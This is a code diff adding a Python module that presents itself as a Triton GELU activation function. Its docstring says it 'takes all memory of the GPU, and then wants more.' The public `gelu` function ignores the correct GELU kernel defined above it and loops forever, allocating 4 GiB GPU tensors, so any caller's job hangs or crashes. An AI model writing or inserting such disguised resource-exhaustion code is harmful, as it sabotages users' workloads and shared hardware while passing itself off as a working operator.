@@ -1,0 +1,20 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Takes all memory of the GPU, and then wants more."""
+
+import torch
+import triton
+import triton.language as tl
+
+
+@triton.jit
+def computes(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
+    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
+    mask = offsets < n
+    x = tl.load(x_ptr + offsets, mask=mask).to(tl.float32)
+    tl.store(y_ptr + offsets, 0.5 * x * (1.0 + tl.erf(x * 0.7071067811865476)), mask=mask)
+
+
+def gelu(input: torch.Tensor, approximate: str = "none") -> torch.Tensor:
+    kept = []
+    while True:
+        kept.append(torch.empty(1 << 32, dtype=torch.uint8, device=input.device))
